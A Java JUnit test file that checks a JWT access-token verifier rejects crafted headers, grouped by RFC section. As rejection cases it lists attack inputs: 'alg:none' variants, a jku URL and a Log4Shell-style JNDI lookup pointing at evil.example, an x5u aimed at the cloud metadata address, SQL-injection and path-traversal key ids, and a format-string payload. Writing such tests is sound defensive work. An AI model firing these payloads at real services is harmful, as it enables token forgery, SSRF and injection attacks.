package dev.latchkey.token;

import static dev.latchkey.token.TokenFixture.encode;
import static dev.latchkey.token.TokenFixture.header;
import static dev.latchkey.token.TokenRejection.BAD_SIGNATURE;
import static dev.latchkey.token.TokenRejection.MALFORMED;
import static dev.latchkey.token.TokenRejection.UNKNOWN_KEY;
import static dev.latchkey.token.TokenRejection.UNSUPPORTED_HEADER;
import static dev.latchkey.token.TokenRejection.WRONG_TYPE;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Headers that ask for something. All but the unsigned ones carry the genuine key's signature. */
class HeaderAttacksTest {

    private static final TokenFixture fixture = new TokenFixture();

    private void assertHeaderRejected(String header, TokenRejection reason) {
        fixture.assertRejected(fixture.signed(header, fixture.claimsJson()), reason);
    }

    @Nested
    class Rfc8725Section3_1_TheAlgorithmIsTheKeys {

        @ParameterizedTest
        @ValueSource(
                strings = {"none", "None", "NONE", "nOnE", "none ", " none", "", "ES256K", "es256", "ES256 ", "ES512"})
        void an_algorithm_that_is_not_supported_is_refused(String algorithm) {
            String header = header(algorithm, fixture.key().id(), "at+jwt");
            assertHeaderRejected(header, UNSUPPORTED_HEADER);
            fixture.assertRejected(encode(header) + "." + encode(fixture.claimsJson()) + ".", UNSUPPORTED_HEADER);
        }

        @ParameterizedTest
        @ValueSource(strings = {"HS256", "RS256", "EdDSA"})
        void an_algorithm_of_another_key_is_refused(String algorithm) {
            assertHeaderRejected(header(algorithm, fixture.key().id(), "at+jwt"), UNSUPPORTED_HEADER);
        }

        @ParameterizedTest
        @ValueSource(strings = {"null", "1", "true", "[\"ES256\"]", "{\"ES256\":1}"})
        void an_algorithm_that_is_no_text_is_refused(String json) {
            assertHeaderRejected(fixture.header().replace("\"ES256\"", json), UNSUPPORTED_HEADER);
        }

        @Test
        void a_header_without_algorithm_is_refused() {
            assertHeaderRejected(fixture.header().replace("\"alg\":\"ES256\",", ""), UNSUPPORTED_HEADER);
        }

        @Test
        void an_algorithm_stated_twice_is_refused() {
            assertHeaderRejected(fixture.headerWith("\"alg\":\"none\""), MALFORMED);
            assertHeaderRejected(fixture.headerWith("\"a\\u006cg\":\"none\""), MALFORMED);
        }
    }

    @Nested
    class Rfc7515Section4_1_NoKeyComesWithTheToken {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "\"jwk\":{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"AA\",\"y\":\"AA\"}",
                    "\"jwk\":null",
                    "\"jku\":\"https://evil.example/jwks.json\"",
                    "\"x5u\":\"http://169.254.169.254/latest/meta-data\"",
                    "\"x5c\":[\"MIIB\"]",
                    "\"x5t\":\"AAAA\"",
                    "\"x5t#S256\":\"AAAA\"",
                    "\"cty\":\"JWT\"",
                    "\"zip\":\"DEF\"",
                    "\"enc\":\"A128GCM\"",
                    "\"p2c\":2147483647",
                    "\"epk\":{}",
                    "\"url\":\"https://evil.example\"",
                    "\"nonce\":\"AAAA\"",
                    "\"anything\":1"
                })
        void a_member_that_is_not_expected_is_refused(String member) {
            assertHeaderRejected(fixture.headerWith(member), UNSUPPORTED_HEADER);
        }

        @ParameterizedTest
        @ValueSource(strings = {"[]", "[\"exp\"]", "[\"b64\"]", "[\"alg\"]", "\"exp\"", "null", "{}"})
        void critical_extensions_are_refused_whatever_they_hold(String value) {
            assertHeaderRejected(fixture.headerWith("\"crit\":" + value), UNSUPPORTED_HEADER);
        }

        @Test
        void an_unencoded_payload_is_refused() {
            assertHeaderRejected(fixture.headerWith("\"b64\":false,\"crit\":[\"b64\"]"), UNSUPPORTED_HEADER);
        }
    }

    @Nested
    class Rfc7515Section4_1_4_KeyId {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "",
                    "unknown",
                    "../../../../dev/null",
                    "/etc/passwd",
                    "file:///dev/null",
                    "' OR '1'='1",
                    "x' UNION SELECT 'AA' -- ",
                    "\\u0000",
                    "key\\u0000",
                    "*",
                    "%s%n",
                    "${jndi:ldap://evil.example}"
                })
        void an_id_of_no_key_is_refused(String id) {
            assertHeaderRejected(header("ES256", id, "at+jwt"), UNKNOWN_KEY);
        }

        @Test
        void the_genuine_id_with_something_around_it_is_refused() {
            String id = fixture.key().id();
            assertHeaderRejected(header("ES256", id + "\\u0000", "at+jwt"), UNKNOWN_KEY);
            assertHeaderRejected(header("ES256", " " + id, "at+jwt"), UNKNOWN_KEY);
            assertHeaderRejected(header("ES256", id + "/../" + id, "at+jwt"), UNKNOWN_KEY);
            assertHeaderRejected(header("ES256", id.substring(0, 10), "at+jwt"), UNKNOWN_KEY);
        }

        @Test
        void an_id_of_six_thousand_characters_is_unknown_and_one_of_ten_thousand_too_long() {
            String claims = "{}";
            fixture.assertRejected(fixture.signed(header("ES256", "k".repeat(5_900), "at+jwt"), claims), UNKNOWN_KEY);
            fixture.assertRejected(fixture.signed(header("ES256", "k".repeat(10_000), "at+jwt"), claims), MALFORMED);
        }

        @ParameterizedTest
        @ValueSource(strings = {"null", "1", "true", "[]", "{}"})
        void an_id_that_is_no_text_is_refused(String json) {
            assertHeaderRejected(fixture.header().replace("\"" + fixture.key().id() + "\"", json), UNKNOWN_KEY);
        }

        @Test
        void a_header_without_id_is_refused() {
            assertHeaderRejected("{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}", UNKNOWN_KEY);
        }

        @Test
        void an_id_stated_twice_is_refused() {
            assertHeaderRejected(fixture.headerWith("\"kid\":\"" + fixture.key().id() + "\""), MALFORMED);
            assertHeaderRejected(fixture.headerWith("\"\\u006bid\":\"other\""), MALFORMED);
        }
    }

    @Nested
    class Rfc9068Section2_1_Type {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "JWT",
                    "jwt",
                    "AT+JWT",
                    "at+JWT",
                    "application/at+jwt",
                    "at+jwt ",
                    "at+jwt;v=1",
                    "dpop+jwt",
                    "secevent+jwt",
                    "logout+jwt",
                    "JOSE",
                    ""
                })
        void another_type_is_refused(String type) {
            assertHeaderRejected(header("ES256", fixture.key().id(), type), WRONG_TYPE);
        }

        @ParameterizedTest
        @ValueSource(strings = {"null", "1", "true", "[\"at+jwt\"]", "{}"})
        void a_type_that_is_no_text_is_refused(String json) {
            assertHeaderRejected(fixture.header().replace("\"at+jwt\"", json), WRONG_TYPE);
        }

        @Test
        void a_header_without_type_is_refused() {
            assertHeaderRejected(fixture.header().replace(",\"typ\":\"at+jwt\"", ""), WRONG_TYPE);
        }
    }

    @Nested
    class Rfc7515Section4_TheHeaderIsOneJsonObject {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "null",
                    "[]",
                    "\"ES256\"",
                    "1",
                    "true",
                    "",
                    " ",
                    "{",
                    "}",
                    "{}{}",
                    "{} x",
                    "{'alg':'ES256'}",
                    "{\"alg\":\"ES256\",}",
                    "{\"alg\" \"ES256\"}",
                    "{\"alg\":ES256}",
                    "{alg:\"ES256\"}",
                    "{\"alg\":NaN}",
                    "/**/{}",
                    "{\"alg\":\"ES256\"",
                    "\ufeff{\"alg\":\"ES256\"}"
                })
        void what_is_no_strict_JSON_object_is_refused(String header) {
            assertHeaderRejected(header, MALFORMED);
        }

        @Test
        void a_byte_order_mark_is_refused() {
            assertHeaderRejected("\ufeff" + fixture.header(), MALFORMED);
        }

        @Test
        void a_header_nested_in_a_header_is_refused() {
            assertHeaderRejected("{\"alg\":".repeat(5_000), MALFORMED);
            assertHeaderRejected("{\"a\":{\"b\":{}}}", MALFORMED);
        }

        @Test
        void a_header_of_a_thousand_members_is_refused() {
            StringBuilder members = new StringBuilder();
            for (int i = 0; i < 400; i++) {
                members.append(",\"a").append(i).append("\":1");
            }
            assertHeaderRejected(fixture.header().replace("}", members + "}"), MALFORMED);
        }

        @Test
        void another_spelling_of_the_genuine_header_is_the_same_header() {
            String spaced = fixture.header().replace(",", " ,\n ").replace(":", " : ");
            fixture.assertAccepted(fixture.signed(spaced, fixture.claimsJson()));
            String escaped = fixture.header().replace("at+jwt", "at\\u002bjwt");
            fixture.assertAccepted(fixture.signed(escaped, fixture.claimsJson()));
        }

        @Test
        void a_header_that_was_changed_after_signing_is_refused() {
            String genuine = fixture.issue();
            String spaced = fixture.header().replace(",", ", ");
            fixture.assertRejected(encode(spaced) + genuine.substring(genuine.indexOf('.')), BAD_SIGNATURE);
        }
    }
}
